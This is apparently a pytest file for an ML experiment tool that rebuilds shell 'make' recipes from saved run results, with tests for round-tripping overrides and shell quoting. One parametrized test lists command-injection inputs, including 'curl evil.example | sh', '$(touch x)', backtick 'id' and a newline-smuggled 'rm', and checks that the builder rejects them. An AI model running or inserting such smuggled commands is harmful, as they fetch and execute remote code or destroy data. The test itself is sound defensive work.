"""The recipe under pictures and in the report trains the same runs again, and runs nothing else."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from lib.config import kconfig
from lib.config.matrix import load_matrix
from lib.results import plot_data
from lib.results.recipe import UNKNOWN, recipe
from lib.results.records import Results
from lib.storage.project import ROOT

NAME = "lenet5-adamw-20240101-120000"


def made(**fields: object) -> Results:
    return Results(**{"name": NAME, "runs": ()} | fields)  # type: ignore[arg-type]


def test_what_was_typed_is_in_the_recipe_the_data_folder_too_and_leads_to_the_same_runs(tmp_path: Path) -> None:
    typed = {"EPOCHS": "2", "DATASET": "image_folder", "DATA_DIR": f"{tmp_path}/my images", "RESULTS_DIR": "/scratch"}
    words = shlex.split(recipe(made(chosen_by="defconfig-lenet5-adamw", overrides=typed)))
    assert words[:4] == ["make", "defconfig-lenet5-adamw", "&&", "make"]
    again = dict(word.split("=", 1) for word in words[4:])
    preset = ROOT / "defconfigs" / "lenet5-adamw"
    assert load_matrix(ROOT, preset, again)[1] == load_matrix(ROOT, preset, typed)[1]


def test_of_an_edited_configuration_the_recipe_is_its_copy_in_the_folder(tmp_path: Path) -> None:
    symbols, runs = load_matrix(ROOT, ROOT / "defconfigs" / "lenet5-adamw", {"EPOCHS": "3", "LENET5_BATCH_SIZE": "32"})
    (folder := tmp_path / NAME).mkdir()
    kconfig.save(symbols, folder / "config")
    words = shlex.split(recipe(made(chosen_by="menuconfig", overrides={"EPOCHS": "3"}), str(folder)))
    assert words == ["cp", f"{folder}/config", ".config", "&&", "make"]
    assert load_matrix(ROOT, Path(words[1]))[1] == runs


def test_a_published_recipe_names_the_data_folder_from_the_users_home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/me")
    results = plot_data.shrink(made(overrides={"DATA_DIR": "/home/me/images", "RESULTS_DIR": "/home/me/results"}))
    text = plot_data.to_text(results)
    assert "/home/me" not in text
    assert recipe(plot_data.from_text(text)) == "make defconfig-lenet5-adamw && make DATA_DIR='~/images'"


@pytest.mark.parametrize(
    "fields",
    [
        {"chosen_by": "defconfig-x; curl evil.example | sh"},
        {"chosen_by": "$(touch x).yaml"},
        {"chosen_by": "menuconfig", "name": "x; sh-20240101-120000"},
        {"name": "`id`-20240101-120000"},
        {"overrides": {"EPOCHS; sh": "3"}},
        {"overrides": {"EPOCHS": "3\nrm"}},
    ],
)
def test_what_no_preset_symbol_or_value_can_be_gives_no_recipe(fields: dict) -> None:
    assert recipe(made(**fields)) == UNKNOWN


def test_values_are_quoted_for_the_shell() -> None:
    variants = "a: SEEDS=1; b: EPOCHS=2"
    command = recipe(made(overrides={"VARIANTS": variants}))
    assert command == f"make defconfig-lenet5-adamw && make VARIANTS='{variants}'"
